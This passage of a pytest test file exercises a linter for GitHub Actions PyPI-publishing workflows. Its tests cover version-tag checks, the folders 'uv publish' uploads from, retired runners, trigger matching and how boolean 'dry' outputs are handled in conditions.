        uses: pypa/gh-action-pypi-publish@release/v1
"""
    found = results(text, "version-equals-tag", {"version_from_tags": False})
    assert len([one for one in found if isinstance(one, Finding)]) == count


@pytest.mark.parametrize(
    ("arguments", "folders"),
    [
        ("", ("dist",)),
        ("--index testpypi", ("dist",)),
        ("--token $TOKEN -v", ("dist",)),
        ("out/*", ("out",)),
        ("-v wheels", None),
        ("$OUT/*.whl", None),
    ],
)
def test_uv_publishes_from_the_folder_that_it_is_given(arguments, folders):
    text = f"on: push\njobs: {{a: {{steps: [{{run: 'uv publish {arguments}'}}]}}}}"
    (publish,) = publish_jobs(parse_workflow(text, file=FILE))
    assert packages_folders(publish) == folders


@pytest.mark.parametrize(("needs", "severity"), [("wheels", "error"), ("other", "advice")])
def test_a_runner_of_a_job_that_no_upload_needs_is_advice(needs, severity):
    text = f"""
on: {{release: {{types: [published]}}}}
jobs:
  wheels: {{runs-on: macos-13, steps: [{{run: pipx run build}}]}}
  other: {{runs-on: ubuntu-latest, steps: [{{run: pipx run build}}]}}
  publish:
    needs: {needs}
    runs-on: ubuntu-latest
    steps: [{{uses: pypa/gh-action-pypi-publish@release/v1}}]
"""
    (found,) = results(text, "runner-retired", {})
    assert found.severity.value == severity


@pytest.mark.parametrize(
    ("on", "kind"), [("push: {tags: ['v*']}", Skipped), ("push: {branches: [main]}", Finding)]
)
def test_a_run_that_follows_on_a_run_of_the_release_is_not_known(on, kind):
    text = """
on: {workflow_run: {workflows: [Build], types: [completed]}}
jobs:
  publish:
    if: github.event.workflow_run.conclusion == 'success'
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps: [{uses: pypa/gh-action-pypi-publish@release/v1}]
"""
    build = f"name: Build\non: {{{on}}}\njobs: {{a: {{steps: [{{run: pipx run build}}]}}}}"
    changes = {"starts": ["push-tag", "release"], "others": [build]}
    assert [type(one) for one in results(text, "trigger-matches", changes)] == [kind]


BOTH = 'if [ -n "$T" ]; then echo "dry=true" >> "$GITHUB_OUTPUT"; else echo "dry=false" >> "$GITHUB_OUTPUT"; fi'
ONE = 'echo "dry=$([ -n "$T" ] && echo true || echo false)" >> "$GITHUB_OUTPUT"'


@pytest.mark.parametrize(
    ("condition", "script", "kinds"),
    [
        ("${{ !needs.look.outputs.dry }}", BOTH, [Finding]),
        ("needs.look.outputs.dry == false", ONE, [Finding]),
        ("needs.look.outputs.dry != true && !needs.look.outputs.dry", ONE, [Finding]),
        ("needs.look.outputs.dry", BOTH, []),
        ("needs.look.outputs.dry != true", BOTH, []),
        ("needs.look.outputs.dry == 'false'", BOTH, [Skipped]),
        ("needs.look.outputs.dry == 'true' && needs.look.outputs.wet == 'false'", BOTH, [Skipped]),
        ("always() && !needs.look.outputs.dry", BOTH, [Skipped]),
        (
            "${{ !needs.look.outputs.dry }}",
            BOTH.replace("; else", "; fi; if false; then"),
            [Skipped],
        ),
    ],
)
def test_an_output_that_says_false_is_text_and_true(condition, script, kinds):
    job = f"""
on: {{release: {{types: [published]}}}}
jobs:
  look:
    runs-on: ubuntu-latest
    outputs: {{dry: "${{{{ steps.a.outputs.dry }}}}", wet: "${{{{ steps.a.outputs.dry }}}}"}}
    steps:
      - id: a
        run: |
          {script}
  publish:
    needs: look
    JOB
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - run: pipx run build
      - uses: pypa/gh-action-pypi-publish@release/v1
        STEP
"""
    asked = f"if: {json.dumps(condition)}"
    for of_job, of_step in ((asked, ""), ("", asked)):
        text = job.replace("JOB", of_job).replace("STEP", of_step)
        assert [type(one) for one in results(text, "trigger-matches", {})] == kinds
